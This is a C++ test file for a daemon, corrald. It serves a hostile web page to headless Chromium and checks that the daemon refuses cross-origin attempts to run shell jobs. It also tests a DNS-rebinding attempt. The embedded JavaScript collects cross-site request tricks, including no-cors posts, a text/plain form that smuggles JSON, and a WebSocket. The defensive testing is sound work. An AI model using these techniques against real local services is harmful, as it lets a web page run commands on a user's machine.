// A real browser on another site's page tries to make corrald run something: a no-cors fetch, a CORS
// fetch, acons's RPC, a form post and a WebSocket. Then it tries DNS rebinding: a name of the
// attacker's that resolves to 127.0.0.1. corrald runs in its weakest configuration (tokenless TCP, the
// acons opt-in), so only the Origin, Host and Content-Type checks stand in the way. docs/security.md.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <spawn.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <condition_variable>
#include <filesystem>
#include <iostream>
#include <mutex>
#include <regex>
#include <thread>

#include <boost/json.hpp>

#include "helpers/daemon_process.hpp"
#include "helpers/http_client.hpp"
#include "helpers/test_support.hpp"

extern char** environ;

namespace corral::test {
namespace {

const std::string chromium = "/usr/bin/chromium";

/// Serves one HTML page on 127.0.0.2 (another origin than corrald's 127.0.0.1) and records what the
/// page reports back (`GET /report?WHAT`), so the test follows its progress as it happens.
class page_server {
  public:
    explicit page_server(std::string html) : html_(std::move(html)) {
        fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in a{};
        a.sin_family = AF_INET;
        ::inet_pton(AF_INET, "127.0.0.2", &a.sin_addr);
        if (::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || ::listen(fd_, 16) != 0) {
            throw std::runtime_error("cannot listen on 127.0.0.2");
        }
        socklen_t len = sizeof a;
        ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
        port_ = ntohs(a.sin_port);
        thread_ = std::thread([this] { serve(); });
    }
    ~page_server() {
        ::shutdown(fd_, SHUT_RDWR);
        thread_.join();
        ::close(fd_);
    }
    std::string url() const { return "http://127.0.0.2:" + std::to_string(port_) + "/"; }
    /// Waits until the page has reported `what`, or `limit` passed.
    bool wait_for(const std::string& what, std::chrono::seconds limit) {
        std::unique_lock lock(mutex_);
        return changed_.wait_for(
            lock, limit, [&] { return reports_.find(what + "\n") != std::string::npos; });
    }
    std::string reports() {
        std::lock_guard lock(mutex_);
        return reports_;
    }

  private:
    void serve() {
        for (;;) {
            const int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
            if (c < 0) {
                return;
            }
            std::string request;
            char buffer[4096];
            while (request.find("\r\n\r\n") == std::string::npos) {
                const auto n = ::read(c, buffer, sizeof buffer);
                if (n <= 0) {
                    break;
                }
                request.append(buffer, static_cast<std::size_t>(n));
            }
            const std::string prefix = "GET /report?";
            if (request.starts_with(prefix)) {
                const auto what =
                    request.substr(prefix.size(), request.find(' ', prefix.size()) - prefix.size());
                std::lock_guard lock(mutex_);
                reports_ += what + "\n";
                changed_.notify_all();
            }
            const auto body = request.starts_with(prefix) ? std::string() : html_;
            const auto reply =
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: " +
                std::to_string(body.size()) + "\r\n\r\n" + body;
            (void)::write(c, reply.data(), reply.size());
            ::close(c);
        }
    }

    std::string html_;
    int fd_ = -1;
    unsigned short port_ = 0;
    std::mutex mutex_;
    std::condition_variable changed_;
    std::string reports_;
    std::thread thread_;
};

/// The attacker's page: every way a page can send a request to another origin without its consent.
std::string attack_page(unsigned short port) {
    const auto target = "http://127.0.0.1:" + std::to_string(port);
    return R"(<!doctype html><html><body><script>
const target = ")" +
           target + R"(";
// Each step is reported to the page's own server (same origin), which the test reads.
const log = (s) => fetch("/report?" + encodeURIComponent(s)).catch(() => {});
const job = JSON.stringify({shell: "echo pwned"});
async function attack() {
  try { await fetch(target + "/api/v1/jobs", {method: "POST", mode: "no-cors", body: job}); await log("no-cors:sent"); }
  catch (e) { await log("no-cors:failed"); }
  try {
    await fetch(target + "/rpc-run", {method: "POST", mode: "no-cors",
      body: JSON.stringify({id: 1, method: "run", params: ["echo pwned", null, false, "x"]})});
    await log("rpc:sent");
  } catch (e) { await log("rpc:failed"); }
  try {
    const r = await fetch(target + "/api/v1/jobs", {method: "POST", headers: {"Content-Type": "application/json"}, body: job});
    await log("cors:status " + r.status);
  } catch (e) { await log("cors:failed"); }
  try { const r = await fetch(target + "/api/v1/jobs"); await log("read:" + (await r.text())); }
  catch (e) { await log("read:failed"); }
  await new Promise((resolve) => {
    const ws = new WebSocket(target.replace("http:", "ws:") + "/api/v1/stream?all=true");
    ws.onopen = () => { ws.send(JSON.stringify({subscribe: 1})); log("ws:open").then(resolve); };
    ws.onerror = () => { log("ws:failed").then(resolve); };
  });
  await new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST"; form.action = target + "/api/v1/jobs"; form.enctype = "text/plain"; form.target = "sink";
    const input = document.createElement("input");
    input.name = '{"shell": "echo pwned", "x": "'; input.value = '"}';
    form.appendChild(input);
    document.body.appendChild(form);
    frame.onload = () => { log("form:sent").then(resolve); };
    setTimeout(() => { log("form:no-load").then(resolve); }, 5000);
    form.submit();
  });
  await log("attack:done");
}
attack();
</script></body></html>)";
}

std::vector<std::string> chromium_argv(const std::string& profile) {
    return {"/usr/bin/timeout",
            "120",
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--user-data-dir=" + profile};
}

std::string fresh_profile() {
    return (std::filesystem::temp_directory_path() / ("corral-chromium-" + std::to_string(::getpid())))
        .string();
}

/// What headless Chromium shows of `url` once it has loaded (for a page without scripts to wait for).
program_result dump_dom(const std::string& url, const std::vector<std::string>& extra = {}) {
    const auto profile = fresh_profile();
    auto argv = chromium_argv(profile);
    argv.insert(argv.end(), extra.begin(), extra.end());
    argv.push_back("--dump-dom");
    argv.push_back(url);
    auto r = run_program(argv);
    std::filesystem::remove_all(profile);
    return r;
}

/// Headless Chromium showing `url` until the object goes.
class browser {
  public:
    explicit browser(const std::string& url) : profile_(fresh_profile()) {
        auto args = chromium_argv(profile_);
        args.push_back(url);
        std::vector<char*> argv;
        for (auto& a : args) {
            argv.push_back(a.data());
        }
        argv.push_back(nullptr);
        posix_spawn_file_actions_t fa;
        posix_spawn_file_actions_init(&fa);
        posix_spawn_file_actions_addopen(&fa, 1, "/dev/null", O_WRONLY, 0);
        posix_spawn_file_actions_addopen(&fa, 2, "/dev/null", O_WRONLY, 0);
        if (::posix_spawn(&pid_, argv[0], &fa, nullptr, argv.data(), environ) != 0) {
            pid_ = -1;
        }
        posix_spawn_file_actions_destroy(&fa);
    }
    ~browser() {
        if (pid_ > 0) {
            ::kill(pid_, SIGTERM);
            ::waitpid(pid_, nullptr, 0);
        }
        std::filesystem::remove_all(profile_);
    }

  private:
    std::string profile_;
    pid_t pid_ = -1;
};

double metric(const std::string& text, const std::string& sample) {
    std::smatch m;
    const std::regex line(std::regex_replace(sample, std::regex(R"([{}"])"), R"(\$&)") + R"( ([0-9.e+]+))");
    return std::regex_search(text, m, line) ? std::stod(m[1]) : 0.0;
}

class BrowserAttack : public ::testing::Test {
  protected:
    void SetUp() override {
        ASSERT_TRUE(std::filesystem::exists(chromium))
            << "Chromium is part of the test suite (scripts/install-deps.sh installs it)";
        ASSERT_TRUE(daemon_.ready()) << daemon_.log();
    }
    void TearDown() override {
        if (HasFailure())
            std::cerr << "corrald's log:\n" << daemon_.log();
    }
    std::size_t jobs_seen() {
        return http(daemon_.local(), "GET", "/api/v1/jobs").json().at("jobs").as_array().size();
    }
    double refusals() {
        return metric(http(daemon_.local(), "GET", "/metrics").body,
                      R"(corral_http_requests_total{status="403"})");
    }

    // The acons opt-in: TCP callers without a token are admins. Only the request checks protect it.
    daemon_process daemon_{daemon_process::default_config("[auth]\nanonymous_role = \"admin\"\n")};
};

TEST_F(BrowserAttack, APageOnAnotherOriginGetsNothingDone) {
    page_server attacker(attack_page(daemon_.port()));
    browser chromium_page(attacker.url());
    ASSERT_TRUE(attacker.wait_for("attack%3Adone", std::chrono::seconds(90)))
        << "the page did not finish; it reported:\n"
        << attacker.reports();
    const auto log = attacker.reports();
    EXPECT_EQ(jobs_seen(), 0u) << log;
    EXPECT_EQ(log.find("ws%3Aopen"), std::string::npos) << log;
    EXPECT_NE(log.find("ws%3Afailed"), std::string::npos) << log;
    EXPECT_EQ(log.find("read%3A%7B"), std::string::npos) << "the page could read the job list\n" << log;
    // Each request did reach corrald and was refused there (not merely blocked by the browser): two
    // no-cors posts, the preflight, the read, the WebSocket upgrade and the form.
    EXPECT_GE(refusals(), 6.0) << log << http(daemon_.local(), "GET", "/metrics").body;
    // The same requests without a foreign Origin would have worked: the refusal is the Origin's doing.
    EXPECT_EQ(http({daemon_.port(), {}, {}}, "POST", "/api/v1/jobs", R"({"shell": "true"})").status, 201u);
}

TEST_F(BrowserAttack, ARebindingNameIsRefused) {
    // The browser resolves the attacker's name to 127.0.0.1, as a rebinding DNS server would make it.
    const auto url = "http://rebind.test:" + std::to_string(daemon_.port()) + "/api/v1/jobs";
    auto r = dump_dom(url, {"--host-resolver-rules=MAP rebind.test 127.0.0.1"});
    EXPECT_NE(r.out.find("misdirected_request"), std::string::npos) << r.out << r.err;
    EXPECT_EQ(r.out.find("\"jobs\""), std::string::npos) << r.out;
}

}  // namespace
}  // namespace corral::test
